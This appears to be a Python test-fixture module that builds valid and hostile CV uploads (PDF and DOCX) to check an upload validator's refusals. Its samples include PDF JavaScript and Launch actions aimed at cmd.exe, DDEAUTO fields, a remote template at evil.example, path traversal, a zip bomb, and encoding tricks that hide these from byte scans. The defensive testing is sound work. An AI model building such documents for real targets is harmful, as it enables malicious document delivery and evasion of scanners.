"""Documents to upload: good ones, and hostile ones with the words that refuse them."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator

import docx as docx_library
import pypdf
from docx.opc.constants import RELATIONSHIP_TYPE

from tests.security.corpus import CATALOG, FONT, PAGE, PARAGRAPH, docx, pdf, png, word, zip_bomb

PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
TEXT = b"<</Length 22>>stream\nBT /F 9 Tf (CV) Tj ET \nendstream"
GOOD_PDF = pdf([CATALOG, PAGES, PAGE, TEXT, FONT])
GOOD_DOCX = docx(word(PARAGRAPH))
HYPERLINK = RELATIONSHIP_TYPE.HYPERLINK
TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def large_pdf(size: int) -> bytes:
    """A PDF with an attached stream of about `size` bytes that does not compress."""
    noise = zlib.compress(b"".join(number.to_bytes(4) for number in range(size // 4)), 0)
    stream = b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(noise), noise)
    return pdf([CATALOG, PAGES, PAGE, TEXT, FONT, stream])


def pdf_with(action: bytes) -> bytes:
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>"
    return pdf([catalog, PAGES, PAGE, TEXT, FONT, action])


def pdf_of_pages(count: int) -> bytes:
    writer = pypdf.PdfWriter()
    for _ in range(count):
        writer.add_blank_page(9, 9)
    return _written(writer)


def packed_pdf() -> bytes:
    """A script that no search in the bytes finds: compressed in a stream of objects."""
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>"
    packed = zlib.compress(b"6 0 <</S/JavaScript/JS(app.alert\\(1\\))>>")
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
    file, offsets = b"%PDF-1.7\n", dict[int, int]()
    objects = [catalog, PAGES, PAGE, TEXT, FONT, stream % (len(packed), packed)]
    for number, body in zip((1, 2, 3, 4, 5, 7), objects, strict=True):
        offsets[number] = len(file)
        file += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[8] = len(file)
    rows = [b"\0\0\0\0\0\0"]
    for number in range(1, 9):
        # Object 6 is the first one in the stream that is object 7.
        rows.append(b"\1%s\0" % offsets[number].to_bytes(4) if number != 6 else b"\2\0\0\0\7\0")
    table = b"".join(rows)
    return file + (
        b"8 0 obj\n<</Type/XRef/Size 9/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream\n"
        b"endobj\nstartxref\n%d\n%%%%EOF" % (len(table), table, offsets[8])
    )


def protected_pdf() -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(GOOD_PDF))
    writer.encrypt("secret", algorithm="RC4-128")
    return _written(writer)


def _written(writer: pypdf.PdfWriter) -> bytes:
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def with_archive(document: bytes) -> bytes:
    """The document and an archive in one file."""
    file = io.BytesIO(document)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("run.exe", b"MZ")
    return file.getvalue()


def hostile_parts() -> Iterator[tuple[str, str, Callable[[], bytes], str]]:
    """Parts of a DOCX that a search in the bytes does not see."""
    rels, field = (
        "word/_rels/settings.xml.rels",
        "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>",
    )
    split = "<w:fldChar/><w:instrText>PAGE</w:instrText><w:fldChar/><w:instrText>DD</w:instrText>"
    header = word(field.format("DDEAUTO c:\\cmd.exe"))
    template = TEMPLATE.decode()
    chunk = '<Relationships><Relationship Id="r1" Type="http://x/{}" Target="{}"/></Relationships>'
    parts: list[tuple[str, str, bytes, str]] = [
        ("UTF-16", rels, template.encode("utf-16"), "not a usual Word"),
        ("UTF-16 without a mark", rels, template.encode("utf-16-le"), "not a usual Word"),
        ("UTF-7", rels, b'<?xml version="1.0" encoding="UTF-7"?>' + TEMPLATE, "not a usual Word"),
        (
            "prefix",
            rels,
            template.replace("<Rel", "<p:Rel")
            .replace("</Rel", "</p:Rel")
            .replace("ships>", 'ships xmlns:p="urn:p">', 1)
            .encode(),
            "another place",
        ),
        ("reference", rels, TEMPLATE.replace(b'"External', b'"&#69;xternal'), "another place"),
        ("capitals", rels.replace("rels", "RELS"), TEMPLATE, "another place"),
        ("picture", rels, TEMPLATE.replace(b"attachedTemplate", b"image"), "another place"),
        ("no mode", rels, TEMPLATE.replace(b'"External"', b'"Internal"'), "another place"),
        ("aFChunk", rels, chunk.format("aFChunk", "a.xml").encode(), "another type"),
        ("altChunk", "word/header1.xml", word("<w:altChunk/>"), "another type"),
        ("html", "word/afchunk.htm", b"<html></html>", "another type"),
        ("embedded", "word/Embeddings/a.xlsx", b"PK", "macros"),
        *[
            (f"field in {name}", f"word/{name}.xml", header, "starts a program")
            for name in ("header1", "footer2", "footnotes", "glossary/document")
        ],
        (
            "split field",
            "word/header1.xml",
            word(f"<w:p><w:r>{split}<w:instrText>E x</w:instrText></w:r></w:p>"),
            "starts a program",
        ),
        (
            "simple field",
            "word/footer1.xml",
            word('<w:fldSimple w:instr="&#68;DE cmd"/>'),
            "starts a program",
        ),
    ]
    for what, name, content, words in parts:
        yield (
            what,
            "cv.docx",
            lambda name=name, content=content: docx(word(PARAGRAPH), {name: content}),
            words,
        )


def usual_docx() -> bytes:
    """A document with the parts that Word and python-docx write: styles, header, picture and link."""
    document = docx_library.Document()
    document.add_heading("Ada Lovelace")
    document.sections[0].header.paragraphs[0].text = "CV"
    document.add_picture(io.BytesIO(png(9, 9)))
    document.part.relate_to("https://example.org", HYPERLINK, is_external=True)
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def hostile_files() -> Iterator[tuple[str, str, Callable[[], bytes], str]]:
    """What it is, its name, its content, and words of the refusal."""
    yield "empty", "cv.pdf", lambda: b"", "is empty"
    yield "another type", "cv.exe", lambda: b"MZ", "Choose a PDF or Word"
    yield "html called pdf", "cv.pdf", lambda: b"<script>alert(1)</script>", "not a PDF"
    yield "pdf called docx", "cv.docx", lambda: GOOD_PDF, "not a DOCX"
    yield "old word", "cv.docx", lambda: bytes.fromhex("d0cf11e0a1b11ae1"), "old Word format"
    yield "cut off", "cv.pdf", lambda: GOOD_PDF[: len(GOOD_PDF) // 2], "something besides"
    yield "pdf and zip", "cv.pdf", lambda: with_archive(GOOD_PDF), "something besides"
    yield (
        "pdf and html",
        "cv.pdf",
        lambda: GOOD_PDF.replace(b"\n", b"\n%<script>alert(1)</script>\n", 1),
        "something besides",
    )
    yield "no pages", "cv.pdf", lambda: pdf([CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"]), "pages"
    yield "too many pages", "cv.pdf", lambda: pdf_of_pages(61), "60 pages"
    yield "password", "cv.pdf", protected_pdf, "password"
    yield "script", "cv.pdf", lambda: pdf_with(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"), "script"
    yield "escaped script", "cv.pdf", lambda: pdf_with(b"<</S/J#61vaScript>>"), "script"
    yield "packed script", "cv.pdf", packed_pdf, "script"
    yield "launch", "cv.pdf", lambda: pdf_with(b"<</S/Launch/F(cmd.exe)>>"), "action"
    yield "attached", "cv.pdf", lambda: pdf_with(b"<</F(a.exe)/EF<</F 4 0 R>>>>"), "attached"
    yield "zip bomb", "cv.docx", lambda: zip_bomb(10**8), "too large when unpacked"
    yield (
        "macros",
        "cv.docx",
        lambda: docx(word(PARAGRAPH), {"word/vbaProject.bin": b"x"}),
        "macros",
    )
    yield (
        "docm",
        "cv.docx",
        lambda: docx(word(PARAGRAPH), {"[content_types].xml": b"macroEnabled"}),
        "not a usual Word document",
    )
    yield "path", "cv.docx", lambda: docx(word(PARAGRAPH), {"../x": b""}), "not a usual Word"
    yield (
        "remote template",
        "cv.docx",
        lambda: docx(word(PARAGRAPH), {"word/_rels/settings.xml.rels": TEMPLATE}),
        "another place",
    )
    yield (
        "entities",
        "cv.docx",
        lambda: docx(b'<!DOCTYPE a [<!ENTITY e "x">]>' + word(PARAGRAPH)),
        "not a usual Word document",
    )
    yield (
        "program field",
        "cv.docx",
        lambda: docx(word("<w:p><w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r></w:p>")),
        "starts a program",
    )
    yield from hostile_parts()
    yield "docx and pdf", "cv.docx", lambda: GOOD_DOCX + b"\n%%EOF", "something besides"
    yield "damaged", "cv.docx", lambda: GOOD_DOCX[:200], "damaged"
